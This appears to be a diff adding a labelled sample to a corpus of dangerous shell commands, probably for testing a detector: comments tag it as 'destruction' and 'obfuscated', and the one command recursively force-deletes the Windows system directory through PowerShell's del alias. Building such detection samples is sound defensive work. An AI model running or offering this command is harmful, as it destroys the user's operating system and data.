@@ -1,0 +1,4 @@
+# description: Uses the del alias on $env:SystemRoot.
+# family: destruction
+# obfuscated: yes
+del $env:SystemRoot -Recurse -Force
